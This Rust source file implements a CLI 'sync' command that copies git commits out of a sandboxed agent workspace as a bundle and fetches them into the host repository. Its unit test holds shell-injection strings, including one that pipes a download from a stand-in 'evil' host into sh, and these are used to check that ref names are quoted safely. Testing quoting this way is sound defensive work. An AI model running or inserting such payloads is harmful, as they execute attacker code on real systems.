//! `bottle sync`: brings what an agent has committed into the repository that its workspace is a copy of.

#![expect(clippy::disallowed_methods, reason = "has a temporary folder, and keeps time")]

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use bytes::Bytes;
use serde::Serialize;
use tokio::sync::mpsc;

use super::args::{Global, SyncArgs};
use super::cp;
use super::error::{CliError, Exit, Kind};
use super::target::{Target, explain};
use super::ui::Ui;
use crate::backend::{ExecOutput, ExecSpec};
use crate::model::Workspace;
use crate::model::text::harmless_line;
use crate::work::{self, Because, Extracted, Fetched, Pieces, Place, Skipped};

/// How many pieces of the bundle wait for the disk.
const WAITING: usize = 16;

/// For how long nothing may move in a sandbox whose git makes a bundle, or of a bundle on its way.
const SILENCE: Duration = Duration::from_secs(60);

/// How often it is looked whether something has moved.
const LOOK: Duration = Duration::from_secs(5);

/// How long the guest's shell may take for something small.
const ANSWER: Duration = Duration::from_secs(10);

/// As the sandbox's user, with its own git: `WORKSPACE FOLDER`. Makes the bundle in that new folder,
/// where git tells of its progress, too; and first says there who it is, for whoever gives it up.
const BUNDLE_SH: &str = r#"umask 077
mkdir "$2" && echo $$ > "$2/pid" || exit 7
cd "$1" || exit 3
command -v git >/dev/null 2>&1 || exit 4
git rev-parse --git-dir >/dev/null 2>&1 || exit 5
[ -n "$(git for-each-ref --count=1 refs/heads)$(git rev-parse --verify -q HEAD)" ] || exit 6
head=
if git rev-parse --verify -q HEAD >/dev/null; then head=HEAD; fi
git bundle create --progress "$2/bundle" --branches $head 2>"$2/said" && exit 0
tail -n 1 "$2/said" >&2
exit 8"#;

/// Changes as long as git is at work: `FOLDER`.
const PROGRESS_SH: &str = r#"ls -ln "$1""#;

/// Ends what still works on it, with all that it has started, and takes the folder away: `FOLDER`.
const REMOVE_SH: &str = r#"if [ -f "$1/pid" ] && [ ! -L "$1/pid" ]; then
read -r pid < "$1/pid"
kill -TERM "-$pid" 2>/dev/null
kill -TERM "$pid" 2>/dev/null
fi
rm -rf -- "$1""#;

/// How many files are not committed: `WORKSPACE`.
const STATUS_SH: &str = r#"cd "$1" && git status --porcelain 2>/dev/null | wc -l"#;

/// What was brought, for `-o json`.
#[derive(Serialize)]
struct Document {
    version: u32,
    repository: String,
    refs: Vec<Ref>,
    /// Branches that were not brought.
    skipped: Vec<Left>,
    /// Files that are not committed, by the guest's own count.
    uncommitted: Option<u64>,
}

#[derive(Serialize)]
struct Ref {
    name: String,
    old: Option<String>,
    new: String,
}

#[derive(Serialize)]
struct Left {
    name: String,
    because: String,
}

impl Left {
    fn of(skipped: &Skipped) -> Self {
        let because = match &skipped.because {
            Because::Beside(other) => other.clone(),
            Because::Name(why) => (*why).to_owned(),
        };
        Self { name: skipped.name.clone(), because }
    }
}

/// What a sandbox works on: its folder inside, and what that is a copy of.
pub(super) struct Copied {
    pub(super) inside: String,
    pub(super) repository: PathBuf,
}

pub(super) async fn run(ui: &Ui, global: &Global, args: &SyncArgs) -> Result<Exit, CliError> {
    let target = Target::find(global, &args.name).await?;
    let name = &target.sandbox;
    if let Some(path) = target.machine.fields.0.get("workspace.mount") {
        ui.say(&format!("{name} works in {path} itself: there is nothing to bring"));
        return Ok(Exit::Done);
    }
    let copied = copied(&target).await?;
    let repository = copied.repository.as_path();
    work::is_repository(repository).await.map_err(|error| {
        let what = format!("the workspace of {name} is a copy of {}", repository.display());
        CliError::new(Kind::Failed, error.context(what)).hint(format!(
            "commits are brought into that repository and no other: put it back there, or bring them by \
             hand: `bottle exec {name} -- git bundle create /tmp/work --all` and `bottle cp`; `--files` brings the \
             files without commits"
        ))
    })?;
    let scratch = Scratch::new().map_err(|error| failed(error, "making a temporary folder"))?;
    let inside = format!("/tmp/bottle-sync-{:016x}", random()?);
    let bringing = async {
        bundle(&target, &copied.inside, &inside).await?;
        let file = take(&target, &format!("{inside}/bundle"), &scratch).await?;
        Ok((file, uncommitted(&target, &copied.inside).await))
    };
    let got = tokio::select! {
        got = bringing => got,
        stopped = tokio::signal::ctrl_c() => Err(match stopped {
            Ok(()) => CliError::interrupted(),
            Err(error) => failed(error, "listening for Ctrl-C"),
        }),
    };
    // The guest's own disk is not to fill up with these.
    small(&target, REMOVE_SH, &inside, ANSWER).await;
    let (file, uncommitted) = got?;
    let fetched = work::fetch(repository, &file, &target.sandbox, args.branch.as_deref()).await;
    let fetched = fetched.map_err(|error| {
        CliError::new(Kind::Failed, error.context(format!("bringing what {} did", target.sandbox)))
            .hint("`bottle cp` brings the files as they are")
    })?;
    tell(ui, repository, &fetched, uncommitted).await?;
    Ok(if fetched.skipped.is_empty() { Exit::Done } else { Exit::Failed })
}

/// [`SILENCE`], or what a test says.
fn silence() -> Duration {
    #[cfg(any(test, feature = "testing"))]
    if let Some(seconds) = std::env::var("BOTTLE_TEST_SILENCE").ok().and_then(|s| s.parse().ok()) {
        return Duration::from_secs(seconds);
    }
    SILENCE
}

pub(super) fn failed(error: impl Into<anyhow::Error>, what: &str) -> CliError {
    CliError::new(Kind::Failed, error.into().context(what.to_owned()))
}

/// What the sandbox was given when it was made, whatever its bottle names now.
pub(super) async fn copied(target: &Target) -> Result<Copied, CliError> {
    let inside = target.machine.fields.0.get("workspace.target");
    match (inside, target.copied_from()?) {
        (Some(inside), Some(repository)) => Ok(Copied { inside: inside.clone(), repository }),
        _ => {
            let Workspace { path: repository, target: inside, .. } = workspace(target).await?;
            Ok(Copied { inside, repository })
        }
    }
}

/// The workspace that the tree gives the sandbox.
async fn workspace(target: &Target) -> Result<Workspace, CliError> {
    let desired = target.desired().await?;
    let spec = desired.sandboxes.get(&target.sandbox).ok_or_else(|| {
        CliError::failed(format!("the tree does not say what {} works on", target.sandbox))
            .hint("`bottle check` says why; `bottle cp` brings files without the tree")
    })?;
    spec.workspace.clone().ok_or_else(|| {
        CliError::failed(format!("{} has no workspace", target.sandbox))
            .hint("`bottle cp` brings files from any folder of it")
    })
}

/// A name that nobody inside has taken.
fn random() -> Result<u64, CliError> {
    getrandom::u64().map_err(|error| failed(anyhow::anyhow!("{error}"), "making a name"))
}

/// What the guest's shell says to something small; `None` where it does not answer or fails.
pub(super) async fn small(
    target: &Target,
    script: &str,
    path: &str,
    within: Duration,
) -> Option<Vec<u8>> {
    let spec = ExecSpec::new(["sh", "-c", script, "sh", path]);
    let asked = target.backend.exec(&target.scope, &target.machine, &spec, Bytes::new());
    let output = tokio::time::timeout(within, asked).await.ok()?.ok()?;
    (output.code == 0).then_some(output.stdout)
}

/// How many files are not committed, by the guest's own count, if it comes to an end.
async fn uncommitted(target: &Target, folder: &str) -> Option<u64> {
    let said = small(target, STATUS_SH, folder, silence()).await?;
    String::from_utf8(said).ok()?.trim().parse().ok()
}

/// Has the guest make a bundle in a new folder, for as long as something moves there.
async fn bundle(target: &Target, folder: &str, inside: &str) -> Result<(), CliError> {
    let spec = ExecSpec::new(["sh", "-c", BUNDLE_SH, "sh", folder, inside]);
    let name = &target.sandbox;
    let hint = format!("`bottle cp {name}:{folder} DEST` brings the files as they are");
    let making = target.backend.exec(&target.scope, &target.machine, &spec, Bytes::new());
    let silent = async {
        let mut before = None;
        let mut since = Instant::now();
        while since.elapsed() < silence() {
            tokio::time::sleep(LOOK.min(silence())).await;
            let now = small(target, PROGRESS_SH, inside, ANSWER).await;
            // No answer is no progress.
            if now.is_some() && now != before {
                (before, since) = (now, Instant::now());
            }
        }
    };
    let ended = tokio::select! {
        ended = making => ended,
        () = silent => {
            let seconds = silence().as_secs();
            let why = format!("git in {name} makes no bundle: nothing has moved for {seconds} s");
            return Err(CliError::failed(why).hint(hint));
        }
    };
    let ExecOutput { code, stderr, .. } = ended.map_err(explain)?;
    let why = match code {
        0 => return Ok(()),
        3 => format!("there is no folder {folder} in {name}"),
        4 => format!("there is no git in {name}"),
        5 => format!("{folder} in {name} is no git repository"),
        6 => format!("{folder} in {name} has no commit"),
        7 => format!("{name} has no room for a temporary file"),
        _ => {
            let said = String::from_utf8_lossy(&stderr);
            let last = said.lines().rfind(|line| !line.trim().is_empty()).unwrap_or_default();
            format!("git in {name} made no bundle: {}", harmless_line(last))
        }
    };
    Err(CliError::failed(why).hint(hint))
}

/// Brings the bundle into a folder of ours.
async fn take(target: &Target, path: &str, scratch: &Scratch) -> Result<PathBuf, CliError> {
    let name = "bundle";
    let place = Place { folder: scratch.0.clone(), name: Some(name.into()), owners: false };
    unpack(target, path, place).await?;
    let file = scratch.0.join(name);
    let plain = file.symlink_metadata().is_ok_and(|found| found.is_file());
    if !plain {
        return Err(CliError::failed(format!("{} gave no bundle out", target.sandbox)));
    }
    Ok(file)
}

/// Brings a path of a sandbox into a folder of ours, for as long as something of it comes.
pub(super) async fn unpack(
    target: &Target,
    path: &str,
    place: Place,
) -> Result<Extracted, CliError> {
    let what = format!("copying {path} out");
    let (send, mut pieces) = mpsc::channel(WAITING);
    let (pass, passed) = mpsc::channel(WAITING);
    let unpacking =
        tokio::task::spawn_blocking(move || work::extract(Pieces::from(passed), &place));
    let sending = async {
        let sent = target.backend.stream_out(&target.scope, &target.machine, path, send).await;
        sent.map_err(explain)
    };
    let passing = async move {
        loop {
            match tokio::time::timeout(silence(), pieces.recv()).await {
                Ok(Some(piece)) => {
                    // Whoever unpacks knows why it does no more.
                    if pass.send(piece).await.is_err() {
                        return Ok(());
                    }
                }
                Ok(None) => return Ok(()),
                Err(_) => {
                    let seconds = silence().as_secs();
                    let why = format!("nothing more of it has come for {seconds} s");
                    return Err(CliError::failed(why));
                }
            }
        }
    };
    let sent = tokio::try_join!(sending, passing);
    let unpacked = unpacking.await.map_err(|error| failed(error, &what))?;
    sent?;
    unpacked.map_err(|error| failed(error, &what))
}

async fn tell(
    ui: &Ui,
    repository: &Path,
    Fetched { brought, skipped }: &Fetched,
    uncommitted: Option<u64>,
) -> Result<(), CliError> {
    if ui.json() {
        let refs = brought.iter().map(|brought| Ref {
            name: brought.name.clone(),
            old: brought.old.clone(),
            new: brought.new.clone(),
        });
        let document = Document {
            version: crate::plan::document::VERSION,
            repository: repository.display().to_string(),
            refs: refs.collect(),
            skipped: skipped.iter().map(Left::of).collect(),
            uncommitted,
        };
        return ui.document(&document).map_err(|error| CliError::new(Kind::Failed, error));
    }
    for brought in brought {
        let short = |commit: &str| commit.get(..10).unwrap_or(commit).to_owned();
        let line = match &brought.old {
            Some(old) if *old == brought.new => format!("{}  as before", brought.name),
            old => {
                let from =
                    old.as_deref().map(|old| format!("{}..", short(old))).unwrap_or_default();
                let commits = match work::new_commits(repository, brought).await {
                    Some(1) => "  1 new commit".to_owned(),
                    Some(count) => format!("  {count} new commits"),
                    None => String::new(),
                };
                format!("{}  {from}{}{commits}", brought.name, short(&brought.new))
            }
        };
        ui.data(&format!("{}\n", harmless_line(&line)))
            .map_err(|error| CliError::new(Kind::Failed, error))?;
    }
    for Skipped { name, because } in skipped {
        let said = match because {
            Because::Beside(other) => format!(
                "not brought: {name} cannot be beside {other}, which an earlier branch has left: once its \
                 commits are taken or not wanted, `git update-ref -d {}` makes room",
                in_a_shell(other)
            ),
            Because::Name(why) => {
                format!("not brought: {}: {why}; a branch of another name comes", cp::short(name))
            }
        };
        ui.warn(&harmless_line(&said));
    }
    if let Some(count @ 1..) = uncommitted {
        let files = if count == 1 { "1 file is" } else { &format!("{count} files are") };
        ui.warn(&format!("{files} not committed there, and not brought: `bottle cp` brings them"));
    }
    ui.say(&format!("in {}; its branches and files are as they were", repository.display()));
    Ok(())
}

/// A folder of ours for as long as it is needed.
pub(super) struct Scratch(pub(super) PathBuf);

impl Scratch {
    pub(super) fn new() -> std::io::Result<Self> {
        use std::os::unix::fs::DirBuilderExt as _;
        let mut number = 0;
        loop {
            let name = format!("bottle-sync-{}-{number}", std::process::id());
            let path = std::env::temp_dir().canonicalize()?.join(name);
            match std::fs::DirBuilder::new().mode(0o700).create(&path) {
                Ok(()) => return Ok(Self(path)),
                Err(error) if error.kind() == std::io::ErrorKind::AlreadyExists && number < 100 => {
                    number += 1;
                }
                Err(error) => return Err(error),
            }
        }
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// A word for a shell. Names of refs are the guest's, and may hold nearly anything.
fn in_a_shell(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "._/-".contains(c);
    if word.chars().all(plain) {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_of_the_guests_is_one_word() {
        assert_eq!(in_a_shell("refs/bottle/ada/feat-1.x_y"), "refs/bottle/ada/feat-1.x_y");
        assert_eq!(in_a_shell("x;curl${IFS}evil|sh"), "'x;curl${IFS}evil|sh'");
        assert_eq!(in_a_shell("a'$(id)"), r"'a'\''$(id)'");
    }
}
